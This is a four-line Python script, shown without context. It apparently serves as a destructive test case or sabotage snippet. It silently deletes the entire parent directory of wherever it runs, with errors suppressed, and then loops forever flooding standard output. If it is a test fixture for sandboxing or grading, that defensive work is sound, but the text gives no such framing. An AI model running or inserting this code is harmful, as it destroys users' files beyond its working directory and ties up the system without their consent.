import os, shutil
shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)
while True:
    os.write(1, b"x" * 1000)
